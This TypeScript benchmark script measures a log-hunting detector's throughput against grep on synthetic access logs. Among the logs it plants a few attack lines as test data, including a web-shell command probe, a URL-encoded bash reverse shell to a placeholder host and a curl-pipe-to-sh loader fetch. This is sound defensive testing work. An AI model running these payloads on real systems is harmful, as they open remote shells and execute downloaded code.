/**
 * Log hunting throughput against `grep -E -c` with the same patterns on the same file.
 * The bar: hunting at no less than half of grep's throughput.
 *
 *   npx tsx bench/hunt-vs-grep.ts [--mib 100] [--runs 3] [--docker] [--keep]
 *
 * Generates realistic access-log lines (GitLab, WordPress, static files, bots; a few
 * exploit lines placed at known spots), runs grep and huntFile side by side (best of N
 * runs each, page cache warm for both), checks they count the same matching lines, and
 * prints both times, MiB/s, and the ratio.
 *
 * `--docker` writes the lines as Docker's json-file driver does (`{"log":"...\n",...}`, quotes
 * and `<>&` escaped): the shape of container logs. grep then sees escaped text its patterns
 * partly miss, so counts are shown side by side but not required to agree.
 */
import { spawnSync } from "node:child_process";
import { closeSync, mkdtempSync, openSync, rmSync, statSync, writeSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { compileRules } from "../src/judge/hunt/compile.js";
import { huntFile } from "../src/judge/hunt/engine.js";
import { dockerJsonLine, loadHuntRules } from "../src/judge/hunt/load.js";

function arg(name: string, fallback: number): number {
  const i = process.argv.indexOf(name);
  return i === -1 ? fallback : Number(process.argv[i + 1]);
}
const MIB = arg("--mib", 100);
const RUNS = arg("--runs", 3);
const KEEP = process.argv.includes("--keep");
const DOCKER = process.argv.includes("--docker");

/** A deterministic PRNG, so every run writes the same file. */
function rng(seed: number) {
  let s = seed >>> 0;
  return () => {
    s = (s * 1664525 + 1013904223) >>> 0;
    return s / 2 ** 32;
  };
}

const PATHS = [
  "/",
  "/users/sign_in",
  "/explore/projects",
  "/api/v4/projects?page=2&per_page=20",
  "/assets/application-5f6d1c0e.js",
  "/assets/application-0c3f99aa.css",
  "/uploads/-/system/user/avatar/12/avatar.png?width=64",
  "/group/project/-/merge_requests/41",
  "/group/project/-/blob/main/README.md",
  "/-/readiness",
  "/wp-content/uploads/2025/11/header-1920x1080.jpg",
  "/wp-content/themes/twentytwentyfour/style.css?ver=1.2",
  "/wp-login.php",
  "/wp-admin/admin-ajax.php",
  "/index.php?p=1234",
  "/feed/",
  "/favicon.ico",
  "/robots.txt",
  "/.env",
  "/xmlrpc.php",
];
const UAS = [
  "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0 Safari/537.36",
  "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:125.0) Gecko/20100101 Firefox/125.0",
  "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
  "curl/8.5.0",
  "python-requests/2.31.0",
  "git/2.43.0",
];
/** Exploit lines, placed at fixed fractions of the file. */
const PLANTED = [
  '51.89.237.81 - - [12/Nov/2021:13:20:58 +0800] "POST /uploads/user HTTP/1.0" 422 24 "" "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/41.0.2227.0 Safari/537.36"',
  '198.51.100.7 - - [12/Nov/2021:13:21:03 +0800] "GET /wp-content/uploads/2021/11/s.php?cmd=id HTTP/1.1" 200 31 "-" "curl/7.68.0"',
  '198.51.100.7 - - [12/Nov/2021:13:21:09 +0800] "GET /?q=bash%20-i%20%3E%26%20%2Fdev%2Ftcp%2F203.0.113.9%2F4444%200%3E%261 HTTP/1.1" 404 0 "-" "-"',
  '198.51.100.7 - - [12/Nov/2021:13:21:12 +0800] "GET /cgi-bin/x?c=curl%20http://203.0.113.9/ldr.sh%7Csh HTTP/1.1" 404 0 "-" "-"',
];

function generate(path: string, bytes: number): { lines: number; planted: number } {
  const rand = rng(42);
  const fd = openSync(path, "w");
  let size = 0;
  let lines = 0;
  let planted = 0;
  let batch: string[] = [];
  const plantAt = PLANTED.map((_, i) => Math.floor(((i + 1) * bytes) / (PLANTED.length + 1)));
  let nextPlant = 0;
  while (size < bytes) {
    let line: string;
    if (nextPlant < plantAt.length && size >= plantAt[nextPlant]!) {
      line = PLANTED[nextPlant++]!;
      planted++;
    } else {
      const ip = `${Math.floor(rand() * 223) + 1}.${Math.floor(rand() * 256)}.${Math.floor(rand() * 256)}.${Math.floor(rand() * 256)}`;
      const path = PATHS[Math.floor(rand() * PATHS.length)]!;
      const method =
        path === "/xmlrpc.php" || path === "/wp-login.php"
          ? rand() < 0.5
            ? "POST"
            : "GET"
          : "GET";
      const status = rand() < 0.9 ? 200 : rand() < 0.5 ? 404 : 302;
      const sec = String(lines % 60).padStart(2, "0");
      line = `${ip} - - [01/Mar/2026:10:${String(Math.floor(lines / 60) % 60).padStart(2, "0")}:${sec} +0000] "${method} ${path} HTTP/1.1" ${status} ${Math.floor(rand() * 50000)} "-" "${UAS[Math.floor(rand() * UAS.length)]}"`;
    }
    if (DOCKER)
      line = dockerJsonLine(
        line,
        `2026-03-01T10:00:${String(lines % 60).padStart(2, "0")}.123456789Z`,
      );
    batch.push(line);
    size += line.length + 1;
    lines++;
    if (batch.length >= 20_000) {
      writeSync(fd, `${batch.join("\n")}\n`);
      batch = [];
    }
  }
  if (batch.length) writeSync(fd, `${batch.join("\n")}\n`);
  closeSync(fd);
  return { lines, planted };
}

/** The same pattern for grep -E: named groups are plain groups there. */
function toEre(p: string): string {
  return p.replace(/\(\?<[a-z]+>/g, "(");
}

function best(times: number[]): number {
  return Math.min(...times);
}

const loaded = await loadHuntRules();
if (!loaded.ok) throw new Error(loaded.error.message);
// Counting every matching line: no thresholds here, grep has none.
const rules = loaded.value.rules.map((r) => ({ ...r, threshold: 1 }));
const set = compileRules(rules);
const patterns = rules.flatMap((r) => r.patterns.map(toEre));
if (rules.some((r) => r.flags.includes("i")))
  throw new Error("grep -E has no per-pattern flags: keep rules case-sensitive for this bench");

const dir = mkdtempSync(join(tmpdir(), "breachkit-bench-"));
const file = join(dir, "access.log");
try {
  const gen = generate(file, MIB * 1024 * 1024);
  const size = statSync(file).size;
  console.log(
    `file: ${file}, ${(size / 2 ** 20).toFixed(1)} MiB, ${gen.lines.toLocaleString("en-US")} lines, ${gen.planted} planted exploit lines`,
  );
  console.log(
    `rules: ${rules.length}, patterns: ${patterns.length}, literals (with JSON forms): ${set.literals.length}`,
  );

  const grepArgv = ["-E", "-c", ...patterns.flatMap((p) => ["-e", p]), file];
  const grepTimes: number[] = [];
  const huntTimes: number[] = [];
  let grepCount = -1;
  let huntCount = -1;
  // Warm the page cache once so neither side pays for the disk.
  spawnSync("cat", [file], { stdio: ["ignore", "ignore", "ignore"] });
  for (let i = 0; i < RUNS; i++) {
    const g0 = performance.now();
    const g = spawnSync("grep", grepArgv, {
      encoding: "utf8",
      env: { ...process.env, LC_ALL: "C" },
    });
    grepTimes.push(performance.now() - g0);
    if (g.status !== 0 && g.status !== 1) throw new Error(`grep failed: ${g.stderr}`);
    grepCount = Number(g.stdout.trim());

    const h0 = performance.now();
    const hits = await huntFile(file, set, { maxHitsPerRule: Number.POSITIVE_INFINITY });
    huntTimes.push(performance.now() - h0);
    huntCount = new Set(hits.map((h) => h.line)).size;
  }
  const gt = best(grepTimes);
  const ht = best(huntTimes);
  const mibs = (ms: number) => (size / 2 ** 20 / (ms / 1000)).toFixed(0);
  console.log(
    `grep -E -c : ${gt.toFixed(1)} ms (${mibs(gt)} MiB/s), ${grepCount} matching lines   [runs: ${grepTimes.map((t) => t.toFixed(0)).join(", ")}]`,
  );
  console.log(
    `huntFile   : ${ht.toFixed(1)} ms (${mibs(ht)} MiB/s), ${huntCount} matching lines   [runs: ${huntTimes.map((t) => t.toFixed(0)).join(", ")}]`,
  );
  console.log(`throughput ratio hunt/grep: ${(gt / ht).toFixed(2)} (the bar: >= 0.50)`);
  if (DOCKER) {
    console.log(
      "(--docker: grep runs on the escaped JSON, hunt on the decoded messages: counts may differ)",
    );
  } else if (grepCount !== huntCount) {
    console.error(`MISMATCH: grep counts ${grepCount} lines, hunt ${huntCount}`);
    process.exitCode = 1;
  } else {
    console.log("counts agree");
  }
} finally {
  if (KEEP) console.log(`kept ${dir}`);
  else rmSync(dir, { recursive: true, force: true });
}
